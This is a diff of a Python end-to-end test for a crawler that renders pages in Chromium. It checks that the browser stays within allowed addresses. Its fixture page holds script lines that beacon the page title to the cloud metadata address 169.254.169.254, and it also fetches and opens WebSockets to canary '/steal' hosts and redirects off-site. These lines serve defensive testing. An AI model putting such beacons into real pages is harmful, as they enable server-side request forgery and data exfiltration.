@@ -1,81 +1,107 @@
-"""A page that holds nothing without a browser."""
+"""Pages that hold nothing without a browser, and what a browser must not be led to."""
 
 from __future__ import annotations
 
+import gzip
 import json
+import os
 import shutil
 import subprocess
 import sys
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from threading import Thread
-from typing import Any
 
 import pytest
 
 from storage.archive import Archive
+from tests.e2e.crawling import ROOT, crawl, order, rows
+from tests.e2e.plain_server import Answer, html, serving
 
-SHELL = b"""<!DOCTYPE html><html lang="en"><head><title>Hiring nurses in Ghent</title></head><body><div id="root"></div>
+SHELL = """<!DOCTYPE html><html lang="en"><head><title>Hiring nurses in Ghent</title></head><body><div id="root"></div>
 <script>
 fetch("/data.json").then(answer => answer.json()).then(data => {
   document.getElementById("root").innerHTML = "<main><h1>" + data.title + "</h1><p>" + data.text + "</p>" +
-    '<a href="/second">Second</a></main>';
+    '<a href="/second">Second</a><a href="/jump">Jump</a><a href="/away">Away</a></main>';
 });
 new Image().src = "http://169.254.169.254/steal?" + document.title;
-fetch("http://CANARY/steal").catch(() => {});
+for (const place of ["http://HOST/steal", "http://canary.test:PORT/steal", "/hop"]) fetch(place).catch(() => {});
+try { new WebSocket("ws://HOST/steal"); } catch (error) {}
 </script></body></html>"""
+DATA = json.dumps({"title": "Hiring nurses in Ghent", "text": "Nurses are wanted everywhere."}).encode()
 
 
-def serve(answers: dict[str, tuple[str, bytes]], seen: list[str]) -> ThreadingHTTPServer:
-    class Handler(BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            seen.append(self.path)
-            kind, body = answers.get(self.path, ("text/html", b""))
-            self.send_response(200 if self.path in answers else 404)
-            self.send_header("Content-Type", kind)
-            self.send_header("Content-Length", str(len(body)))
-            self.end_headers()
-            self.wfile.write(body)
-
-        def log_message(self, *_: object) -> None:
-            pass
-
-    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-    Thread(target=server.serve_forever, daemon=True).start()
-    return server
-
-
-def test_the_document_is_rendered_and_kept_and_nothing_forbidden_is_loaded(tmp_path: Path) -> None:
+def needs_a_browser() -> None:
     pytest.importorskip("scrapy_playwright", reason="needs the extra `browser`")
     if not any(shutil.which(name) for name in ("chromium", "chromium-browser", "google-chrome")):
         pytest.skip("needs a Chromium on the machine")
-    stolen: list[str] = []
-    seen: list[str] = []
-    canary = serve({}, stolen)
-    shell = SHELL.replace(b"CANARY", f"127.0.0.1:{canary.server_port}".encode())
-    data = json.dumps({"title": "Hiring nurses in Ghent", "text": "Nurses are wanted everywhere."}).encode()
-    answers = {"/": ("text/html", shell), "/second": ("text/html", shell), "/data.json": ("application/json", data)}
-    site = serve(answers, seen)
-    order: dict[str, Any] = {
-        "config": {
-            "data": str(tmp_path / "data"),
-            "allow_addresses": [f"127.0.0.1:{site.server_port}"],
-            "delay": 0,
-            "log_level": "WARNING",
-        },
-        "sites": [{"name": "app", "javascript": True, "start_urls": [f"http://127.0.0.1:{site.server_port}/"]}],
+
+
+def app(canary: str) -> dict[str, Answer]:
+    shell = html(SHELL.replace("HOST", canary).replace("PORT", canary.split(":")[1]).encode())
+    away = {"Location": f"http://{canary}/steal"}
+    return {
+        "/": shell,
+        "/second": shell,
+        "/data.json": (200, {"Content-Type": "application/json"}, DATA),
+        "/hop": (302, away, b""),
+        "/jump": (302, away, b""),
+        "/away": (302, {"Location": "http://elsewhere.test:PORT/"}, b""),
     }
-    driver = Path(__file__).with_name("driver.py")
-    done = subprocess.run(
-        [sys.executable, str(driver)], input=json.dumps(order), capture_output=True, text=True, timeout=90
-    )
-    site.shutdown()
-    canary.shutdown()
-    outcome = json.loads(done.stdout.splitlines()[-1])
-    assert outcome["exit_code"] == 0, (outcome, done.stderr[-2000:])
-    pages = [entry.page for entry in Archive(tmp_path / "data" / "archive").entries() if entry.page]
+
+
+def test_the_document_is_rendered_and_kept_and_nothing_forbidden_is_loaded(tmp_path: Path) -> None:
+    needs_a_browser()
+    data = tmp_path / "data"
+    with serving({}) as canary, serving(app(canary.host)) as site:
+        port = site.host.split(":")[1]
+        site.answers["/away"] = (302, {"Location": f"http://elsewhere.test:{port}/second"}, b"")
+        what = order(site.origin, data, {"name": "app", "javascript": True}, retries=0, failure_budget=1)
+        names = {"canary.test": ["127.0.0.1"], "elsewhere.test": ["127.0.0.1"]}
+        outcome = crawl(what | {"names": names})
+        assert outcome["exit_code"] == 0, outcome
+        assert canary.paths == [], "the browser was led to an address that is not allowed"
+        assert site.paths[0] == "/robots.txt"
+        agents = {headers["user-agent"].partition("/")[0] for _, headers in site.seen}
+        assert agents == {"guidepost"}, "the browser says who calls as every request does"
+    became = {url.rpartition("/")[2]: what for url, what in rows(data, "SELECT url, outcome FROM frontier")}
+    assert {became[path] for path in ("", "second")} == {"stored"}
+    assert became["away"] == "off_site"
+    assert became["jump"] != "stored"
+    pages = [entry.page for entry in Archive(data / "archive").entries() if entry.page]
     assert len(pages) == 2, "the link in the rendered document was followed"
     assert all(b"<h1>Hiring nurses in Ghent</h1>" in page.content for page in pages)
     assert all(page.headers["x-guidepost-rendered"] == "chromium" for page in pages)
-    assert seen[0] == "/robots.txt"
-    assert stolen == [], "the browser was led to an address that is not allowed"
+    records = b"".join(gzip.decompress(path.read_bytes()) for path in (data / "archive").iterdir())
+    assert records.count(b'<div id="root"></div>') >= 2, "what the server itself sent is kept as well"
+
+
+@pytest.mark.parametrize(
+    "command", [["guidepost", "crawl", "--site", "app"], ["scrapy", "crawl", "site", "-a", "site=app"]]
+)
+def test_either_command_renders_what_a_site_file_asks_for(tmp_path: Path, command: list[str]) -> None:
+    needs_a_browser()
+    with serving({}) as canary, serving(app(canary.host)) as site:
+        (tmp_path / "app.toml").write_text(
+            f'start_urls = ["{site.origin}/"]\njavascript = true\n[politeness]\ndepth = 0\n'
+        )
+        environment = os.environ | {
+            "GUIDEPOST_DATA": str(tmp_path / "data"),
+            "GUIDEPOST_SITES": str(tmp_path),
+            "GUIDEPOST_ALLOW_ADDRESSES": site.host,
+            "GUIDEPOST_DELAY": "0",
+        }
+        run = [sys.executable, "-m", *command]
+        done = subprocess.run(run, capture_output=True, text=True, cwd=ROOT, env=environment, timeout=90)
+        assert done.returncode == 0, done.stderr
+        (page,) = [entry.page for entry in Archive(tmp_path / "data" / "archive").entries() if entry.page]
+        assert b"<h1>Hiring nurses in Ghent</h1>" in page.content
+        missing = environment | {"GUIDEPOST_BROWSER": "/nowhere/chromium"}
+        done = subprocess.run(run, capture_output=True, text=True, cwd=ROOT, env=missing, timeout=90)
+    assert done.returncode == 2
+    assert "there is no /nowhere/chromium" in " ".join((done.stderr + done.stdout).split())
+
+
+def test_an_application_shell_met_without_a_browser_is_said(tmp_path: Path) -> None:
+    with serving({}) as canary, serving(app(canary.host)) as site:
+        outcome = crawl(order(site.origin, tmp_path / "data"))
+    assert outcome["exit_code"] == 0
+    assert "browser" in outcome["reason"] or "shell" in outcome["reason"], outcome["reason"]
